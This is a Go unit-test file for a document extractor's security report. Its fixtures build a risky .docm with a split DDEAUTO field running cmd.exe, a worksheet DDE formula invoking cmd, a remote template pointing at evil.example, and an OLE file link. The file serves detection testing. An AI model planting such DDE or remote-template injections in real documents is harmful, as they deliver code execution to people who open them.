@@ -0,0 +1,97 @@
+package office
+
+import (
+	"archive/zip"
+	"context"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/toricodesthings/file-processing-service/internal/extract"
+)
+
+func writeZip(t *testing.T, name string, parts map[string]string) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), name)
+	f, err := os.Create(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	zw := zip.NewWriter(f)
+	for n, body := range parts {
+		w, err := zw.Create(n)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := w.Write([]byte(body)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := f.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func TestDOCMSecurityReport(t *testing.T) {
+	const w = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
+	path := writeZip(t, "risky.docm", map[string]string{
+		"word/document.xml": `<w:document ` + w + `><w:body>
+			<w:p><w:r><w:t>Invoice</w:t></w:r></w:p>
+			<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
+			<w:p><w:fldSimple w:instr="PAGE"/></w:p>
+		</w:body></w:document>`,
+		"word/vbaProject.bin": "macro",
+		"word/_rels/settings.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
+			<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>
+		</Relationships>`,
+		"word/_rels/document.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
+			<Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://docs.example/" TargetMode="External"/>
+			<Relationship Id="r3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://cdn.example/pixel.png" TargetMode="External"/>
+			<Relationship Id="r4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="file:///C:/share/data.xlsx" TargetMode="External"/>
+			<Relationship Id="r5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>
+		</Relationships>`,
+	})
+
+	res, err := NewDOCX(1<<20).Extract(context.Background(), extract.Job{LocalPath: path, FileName: "risky.docm"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := map[string]string{
+		"hasMacros":         "true",
+		"externalTemplate":  "https://evil.example/t.dotm",
+		"externalOleLinks":  "1",
+		"ddeFields":         "1",
+		"remoteTargets":     "1",
+		"remoteTargetHosts": "cdn.example,evil.example",
+		"securityFlags":     "macros,external-template,ole-link,dde,remote-target",
+	}
+	for k, v := range want {
+		if got := res.Metadata[k]; got != v {
+			t.Errorf("metadata[%q] = %q, want %q", k, got, v)
+		}
+	}
+}
+
+func TestSecurityReportClean(t *testing.T) {
+	path := writeZip(t, "plain.docx", map[string]string{
+		"word/document.xml": `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hi</w:t></w:r></w:p></w:body></w:document>`,
+	})
+	res, err := NewDOCX(1<<20).Extract(context.Background(), extract.Job{LocalPath: path})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if res.Metadata["hasMacros"] != "false" || res.Metadata["securityFlags"] != "none" {
+		t.Fatalf("metadata = %v", res.Metadata)
+	}
+}
+
+func TestCountDDEWorksheetFormula(t *testing.T) {
+	sheet := []byte(`<worksheet><sheetData><row><c r="A1"><f>cmd|'/c calc'!A0</f></c><c r="B1"><f>SUM(Sheet2!A1:A3)</f></c></row></sheetData></worksheet>`)
+	if n := countDDE("xl/worksheets/sheet1.xml", sheet); n != 1 {
+		t.Fatalf("countDDE = %d, want 1", n)
+	}
+}